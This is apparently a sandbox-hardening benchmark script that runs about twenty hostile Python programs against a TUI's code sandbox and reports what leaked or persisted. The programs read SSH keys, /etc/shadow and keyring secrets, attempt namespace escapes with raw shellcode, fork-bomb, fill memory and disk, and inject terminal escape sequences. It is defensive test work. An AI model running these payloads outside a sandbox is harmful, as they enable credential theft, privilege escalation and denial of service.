"""Attacks on the sandbox: each is a small hostile program run through the library function the TUI's F5
calls (sandbox.runner.SandboxRun with echo_last=True) or, with --cli, through `gorilla-tui run FILE --yes`.

Run: python bench/sandbox_attacks.py [--cli] [--only NAME ...] [--timeout S]
Prints, per attack, what the code printed (its last lines, escaped as the TUI shows them), its exit status,
the limits it hit, and what it left on the host (SysV IPC objects, keys of its uid). The table of results
before and after the fixes is docs/sandbox_attacks.md; the attacks that once worked are tests in
tests/unit/test_sandbox_attacks.py. Writes nothing to docs/benchmarks.md (no speed figure here).
Before the run, this process joins a fresh session keyring holding one secret key (the keyring attack
tries to read it, as it would a login's keys) and makes a world-readable SysV segment (the ipc attack
looks for it).
"""

from __future__ import annotations

import ctypes
import json
import os
import platform
import subprocess
import sys
import tempfile
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from bench._report import parser  # noqa: E402
from gorilla_tui.paths import get_paths  # noqa: E402
from gorilla_tui.sandbox.runner import Limits, SandboxRun  # noqa: E402
from gorilla_tui.textsafe import safe_text  # noqa: E402

_libc = ctypes.CDLL(None, use_errno=True)
HOST_SHM_KEY, RUN_IPC_KEY = 0x6077_1A00, 0x6077_1A01
SECRET = b"gorilla-attack-secret-key"
KEYCTL = {"x86_64": (248, 250), "aarch64": (217, 219)}.get(platform.machine(), (-1, -1))

#: name -> program; {home}, {data}, {repo} are the host's HOME, data folder and this repository.
ATTACKS = {
    "fs_read": """
import os
for p in ["{home}/.ssh", "{home}/.bash_history", "{data}", "{repo}", "/etc/shadow", "/root", "/home"]:
    try:
        isdir = os.path.isdir(p)
        print("LIST" if isdir else "READ", p, os.listdir(p)[:6] if isdir else open(p).read(40))
    except OSError as e:
        print("NO", p, e.strerror)
""",
    "fs_write": """
import os
for p in ["{home}/pwned", "{repo}/pwned", "/etc/pwned", "/usr/pwned", "/tmp/pwned", "/sandbox/x", "/dev/x"]:
    try:
        open(p, "w").write("x"); print("WROTE", p)
    except OSError as e:
        print("NO", p, e.strerror)
for s in ("/etc/passwd", "{repo}/README.md"):
    try:
        os.link(s, "/tmp/hardlink"); print("HARDLINK", s)
    except OSError as e:
        print("NO link", s, e.strerror)
os.symlink("{home}", "/tmp/sl")
try:
    print("via symlink", os.listdir("/tmp/sl"))
except OSError as e:
    print("NO via symlink", e.strerror)
""",
    "proc": """
import os
print("pids", sorted(int(p) for p in os.listdir("/proc") if p.isdigit()), "ppid", os.getppid())
for p in ["/proc/1/environ", "/proc/1/cmdline", "/proc/1/mem", "/proc/1/cwd", "/proc/1/fd"]:
    try:
        print("READ", p, os.listdir(p) if os.path.isdir(p) else open(p, "rb").read(120))
    except OSError as e:
        print("NO", p, e.strerror)
print("fds", sorted(os.listdir("/proc/self/fd")))
""",
    "net": """
import socket, urllib.request
def t(name, f):
    try:
        print("OK", name, f())
    except Exception as e:
        print("NO", name, type(e).__name__, e)
t("tcp 1.1.1.1:80", lambda: socket.create_connection(("1.1.1.1", 80), timeout=2))
t("tcp 127.0.0.1:22", lambda: socket.create_connection(("127.0.0.1", 22), timeout=2))
t("udp 8.8.8.8:53", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("8.8.8.8", 53)))
t("dns", lambda: socket.getaddrinfo("pypi.org", 443))
t("http", lambda: urllib.request.urlopen("http://example.com", timeout=2).status)
for p in ["/run/dbus/system_bus_socket", "/var/run/docker.sock", "\\0/tmp/.X11-unix/X0"]:
    t("unix " + repr(p), lambda p=p: socket.socket(socket.AF_UNIX).connect(p))
print("interfaces", socket.if_nameindex())
""",
    "procs": """
import ctypes, os, signal, subprocess
def t(name, f):
    try:
        print("OK", name, f())
    except Exception as e:
        print("NO", name, type(e).__name__, e)
libc = ctypes.CDLL(None, use_errno=True)
t("kill ppid", lambda: os.kill(os.getppid(), signal.SIGKILL))
t("kill -1", lambda: os.kill(-1, signal.SIGKILL) if os.fork() else os._exit(0))
t("subprocess id", lambda: subprocess.run(["id"], capture_output=True).stdout)
t("ptrace attach 1", lambda: (libc.ptrace(16, 1, 0, 0), ctypes.get_errno()))
t("setuid 0", lambda: os.setuid(0))
""",
    "ipc": f"""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
print("host segment", libc.shmget({HOST_SHM_KEY}, 0, 0))
shm = libc.shmget({RUN_IPC_KEY}, 64 << 20, 0o1666)
libc.shmat.restype = ctypes.c_void_p
ctypes.memset(libc.shmat(shm, None, 0), 0x41, 64 << 20)
print("64 MiB segment", shm, "msg", libc.msgget({RUN_IPC_KEY}, 0o1666))
print("sem", libc.semget({RUN_IPC_KEY}, 1, 0o1666))
""",
    "keyring": f"""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
buf = ctypes.create_string_buffer(4096)
n = libc.syscall({KEYCTL[1]}, 11, -3, buf, 4096)
ids = [int.from_bytes(buf.raw[i:i + 4], "little") for i in range(0, max(n, 0), 4)]
print("session keys", ids, ctypes.get_errno())
for k in ids:
    n = libc.syscall({KEYCTL[1]}, 11, k, buf, 4096)
    print("read", buf.raw[:max(n, 0)])
""",
    "userkey": f"""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for i in range(150):
    k = libc.syscall({KEYCTL[0]}, b"user", b"junk%d" % i, b"x" * 100, 100, -4)
print("last add_key", k, ctypes.get_errno())
""",
    "userns": """
import ctypes, subprocess
r = subprocess.run(["unshare", "--user", "--map-root-user", "id", "-u"], capture_output=True)
print("unshare(1)", r.returncode, r.stdout, r.stderr)
libc = ctypes.CDLL(None, use_errno=True)
print("unshare(CLONE_NEWUSER|CLONE_NEWNS)", libc.unshare(0x10000000 | 0x20000), ctypes.get_errno())
print("mount tmpfs", libc.mount(b"none", b"/tmp", b"tmpfs", 0, None), ctypes.get_errno())
""",
    "int80": """
import ctypes, mmap, platform
if platform.machine() == "x86_64":  # mov eax, 310 (i386 unshare); mov ebx, CLONE_NEWUSER; int 0x80; ret
    buf = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    buf.write(bytes.fromhex("b836010000bb00000010cd80c3"))
    f = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(buf)))
    print("int 0x80 unshare(CLONE_NEWUSER)", f())
""",
    "io_uring": """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
print("io_uring_setup", libc.syscall(425, 4, ctypes.create_string_buffer(120)), ctypes.get_errno())
""",
    "daemon": """
import os, signal, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(s, signal.SIG_IGN)
        os.close(1); os.close(2)
        time.sleep(60)
    os._exit(0)
print("parent exits; the daemon sleeps 60 s")
""",
    "forkbomb": """
import os
while True:
    try:
        os.fork()
    except OSError as e:
        print("fork:", e.strerror, flush=True)
        break
""",
    "cpu": """
import signal
signal.signal(signal.SIGXCPU, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    pass
""",
    "memory": """
chunks = []
while True:
    chunks.append(bytearray(100 << 20))
""",
    "disk": """
n = 0
try:
    for i in range(100):
        with open(f"/tmp/fill{i}", "wb") as f:
            for _ in range(64):
                f.write(b"\\0" * (1 << 20)); n += 1
except OSError as e:
    print("stopped at", n, "MiB:", e.strerror)
""",
    "flood": """
import sys
while True:
    sys.stdout.write("A" * 999 + "\\n")
""",
    "long_line": """
import sys
sys.stdout.write("B" * 50_000_000)
""",
    "escapes": """
import sys
print("title\\x1b]0;PWNED\\x07 clear\\x1b[2J osc52\\x1b]52;c;ZWNobyBwd25lZA==\\x07 c1:\\x9b31m cr:abc\\rXYZ")
print("bidi: access\\u202e\\u2066 admin\\u2069\\u2066")
sys.stdout.flush()
sys.stdout.buffer.write(b"invalid utf8: \\xff\\xfe\\xc3\\x28 \\xed\\xa0\\x80 end\\n")
""",
    "tty": """
import fcntl, os, termios
try:
    os.open("/dev/tty", os.O_RDWR); print("OPEN /dev/tty")
except OSError as e:
    print("NO /dev/tty", e.strerror)
try:
    fcntl.ioctl(1, termios.TIOCSTI, b"x"); print("TIOCSTI worked")
except OSError as e:
    print("NO TIOCSTI", e.strerror)
""",
    "python": """
import os, sys
print("env", sorted(os.environ))
for m in ("gorilla_tui.cli", "llama_cpp"):
    try:
        __import__(m); print("imported", m)
    except Exception as e:
        print("NO", m, type(e).__name__)
""",
    "echo_tricks": """
import builtins, os, sys
class Evil:
    def __repr__(self):
        return "repr ran as uid %d pid %d \\x1b]0;PWNED\\x07" % (os.getuid(), os.getpid())
sys.modules["traceback"] = None
builtins.exec = lambda *a, **k: print("the echo's exec hijacked, in the sandbox")
Evil()
""",
}


def host_setup() -> int:
    """Join a fresh session keyring holding SECRET and make the host's world-readable SysV segment."""
    if KEYCTL[1] > 0 and _libc.syscall(KEYCTL[1], 1, None) >= 0:
        _libc.syscall(KEYCTL[0], b"user", b"attack-secret", SECRET, len(SECRET), -3)
    return _libc.shmget(HOST_SHM_KEY, 4096, 0o1666)


def left_on_host(uid: int | None) -> list[str]:
    """SysV IPC objects with the run's key, and keys held by the run's uid, still in the kernel (removed)."""
    left = []
    for kind, get, ctl in (
        ("shm", "shmget", "shmctl"),
        ("msg", "msgget", "msgctl"),
        ("sem", "semget", "semctl"),
    ):
        with open(f"/proc/sysvipc/{kind}") as f:
            if any(line.split()[0] == str(RUN_IPC_KEY) for line in f.readlines()[1:]):
                left.append(f"SysV {kind} object")
                ident = getattr(_libc, get)(RUN_IPC_KEY, *((0, 0) if kind != "msg" else (0,)))
                getattr(_libc, ctl)(ident, 0, *((0,) if kind == "sem" else ()), None)
    if uid is not None and os.path.exists("/proc/key-users"):
        with open("/proc/key-users") as f:
            for line in f:
                if line.split(":")[0].strip() == str(uid):
                    left.append(f"keys of uid {uid}: {line.split(':', 1)[1].split()[-1]} bytes")
                    _clear_user_keyring(uid)
    return left


def _clear_user_keyring(uid: int) -> None:
    """Remove the keys a run left in `uid`'s user keyring (as root: a child becomes `uid` and clears @u)."""
    if os.geteuid() != 0 or KEYCTL[1] < 0:
        return
    pid = os.fork()
    if pid == 0:
        os.setuid(uid)
        _libc.syscall(KEYCTL[1], 1, None)  # a session keyring of its own, then KEYCTL_CLEAR of @u
        os._exit(0 if _libc.syscall(KEYCTL[1], 7, -4) == 0 else 1)
    os.waitpid(pid, 0)


def run_lib(code: str, timeout: float) -> tuple[str, dict]:
    lines: list[str] = []
    result = SandboxRun(
        code, on_output=lambda s, line: lines.append(safe_text(line)), echo_last=True,
        limits=Limits(timeout_s=timeout),
    ).run()  # fmt: skip
    return "\n".join(lines), result.to_dict()


def run_cli(code: str, timeout: float) -> tuple[str, dict]:
    with tempfile.NamedTemporaryFile("w", suffix=".py", delete=False) as f:
        f.write(code)
    cmd = [sys.executable, "-m", "gorilla_tui", "run", f.name, "--yes", "--json", "--timeout", str(timeout)]
    proc = subprocess.run(cmd, capture_output=True, text=True, cwd=ROOT)
    os.unlink(f.name)
    run = json.loads(proc.stdout)["run"]
    return safe_text(run["output"]), run


def main() -> None:
    ap = parser(__doc__)
    ap.add_argument("--cli", action="store_true", help="through `gorilla-tui run FILE` (needs an index)")
    ap.add_argument("--only", nargs="*", default=None)
    ap.add_argument("--timeout", type=float, default=10.0)
    args = ap.parse_args()
    values = {"home": os.path.expanduser("~"), "data": str(get_paths().data), "repo": str(ROOT)}
    host_seg = host_setup()
    try:
        for name, code in ATTACKS.items():
            if args.only and name not in args.only:
                continue
            for key, value in values.items():
                code = code.replace("{" + key + "}", value)
            t0 = time.monotonic()
            text, run = (run_cli if args.cli else run_lib)(code, args.timeout)
            print(f"=== {name}: exit {run['exit_status']} signal {run['signal']} limits {run['limits_hit']}"
                  f" {time.monotonic() - t0:.1f} s")  # fmt: skip
            print("\n".join(text.splitlines()[-8:])[:1500])
            left = left_on_host(run.get("uid"))
            if left or SECRET.decode() in text:
                print("!!! LEFT ON THE HOST OR LEAKED:", left or "the session key")
    finally:
        _libc.shmctl(host_seg, 0, None)


if __name__ == "__main__":
    main()
